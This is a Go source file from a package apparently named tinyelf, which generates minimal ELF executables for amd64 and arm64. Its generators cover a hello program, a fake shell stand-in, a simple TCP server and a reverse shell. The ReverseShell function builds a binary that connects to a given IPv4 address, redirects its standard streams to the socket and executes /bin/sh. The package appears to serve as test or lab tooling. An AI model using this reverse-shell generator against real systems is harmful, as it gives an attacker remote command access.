package tinyelf

import (
	"encoding/binary"
	"fmt"
	"net/netip"
)

const (
	afInet      = 2
	sockStream  = 1
	solSocket   = 1
	soReuseAddr = 2
)

// Hello is a program that prints text on standard output and exits 0.
// arch is amd64 or arm64.
func Hello(arch, text string) ([]byte, error) {
	a, err := assemble(arch)
	if err != nil {
		return nil, err
	}
	a.call(callWrite, number(1), at(a.constant([]byte(text))), number(int64(len(text))))
	a.exit(0)
	return a.file(), nil
}

// Shell is a stand-in for /bin/sh: it reads standard input once, prints answer,
// and exits 0, whatever it was asked to do.
func Shell(arch, answer string) ([]byte, error) {
	a, err := assemble(arch)
	if err != nil {
		return nil, err
	}
	a.reserve()
	a.call(callRead, number(0), stack, number(4096))
	a.call(callWrite, number(1), at(a.constant([]byte(answer))), number(int64(len(answer))))
	a.exit(0)
	return a.file(), nil
}

// ReverseShell is a program that connects to an IPv4 address, makes the
// connection its standard input, output and error, and executes /bin/sh there.
// It exits 1 when it cannot.
func ReverseShell(arch string, to netip.AddrPort) ([]byte, error) {
	a, err := assemble(arch)
	if err != nil {
		return nil, err
	}
	if !to.Addr().Is4() {
		return nil, fmt.Errorf("tinyelf: a reverse shell needs an IPv4 address, not %s", to.Addr())
	}
	address := at(a.constant(socketAddress(to)))
	shell := a.constant([]byte("/bin/sh\x00"))
	argv := a.constant(binary.LittleEndian.AppendUint64(nil, uint64(shell)))
	a.constant(make([]byte, 8)) // ends argv

	a.call(callSocket, number(afInet), number(sockStream), number(0))
	a.must()
	a.keep(first)
	a.call(callConnect, value(first), address, number(16))
	a.must()
	for fd := range int64(3) {
		a.call(callDup, value(first), number(fd), number(0))
		a.must()
	}
	a.call(callExecve, at(shell), at(argv), number(0))
	return a.file(argv), nil
}

// Server is a program that listens on a TCP port of every IPv4 address, reads
// once from whoever connects, sends answer and closes, for count connections
// one after the other. Then it exits 0; 1 when it cannot listen.
func Server(arch string, port uint16, answer string, count uint32) ([]byte, error) {
	a, err := assemble(arch)
	if err != nil {
		return nil, err
	}
	if count == 0 {
		return nil, fmt.Errorf("tinyelf: a server for no connection at all")
	}
	any4 := at(a.constant(socketAddress(netip.AddrPortFrom(netip.IPv4Unspecified(), port))))
	one := at(a.constant([]byte{1, 0, 0, 0}))
	page := at(a.constant([]byte(answer)))

	a.reserve()
	a.call(callSocket, number(afInet), number(sockStream), number(0))
	a.must()
	a.keep(first)
	a.call(callSetsockopt, value(first), number(solSocket), number(soReuseAddr), one, number(4))
	a.call(callBind, value(first), any4, number(16))
	a.must()
	a.call(callListen, value(first), number(16))
	a.must()
	a.set(third, count)
	again := a.here()
	a.call(callAccept, value(first), number(0), number(0), number(0))
	a.must()
	a.keep(second)
	a.call(callRead, value(second), stack, number(4096))
	a.call(callWrite, value(second), page, number(int64(len(answer))))
	a.call(callClose, value(second))
	a.countDown(third, again)
	a.exit(0)
	return a.file(), nil
}

func assemble(arch string) (*assembly, error) {
	cpu, err := instructionsFor(arch)
	if err != nil {
		return nil, err
	}
	return &assembly{cpu: cpu}, nil
}

// socketAddress is a struct sockaddr_in, ip(7).
func socketAddress(a netip.AddrPort) []byte {
	b := binary.LittleEndian.AppendUint16(nil, afInet)
	b = binary.BigEndian.AppendUint16(b, a.Port())
	ip := a.Addr().As4()
	return append(append(b, ip[:]...), make([]byte, 8)...)
}
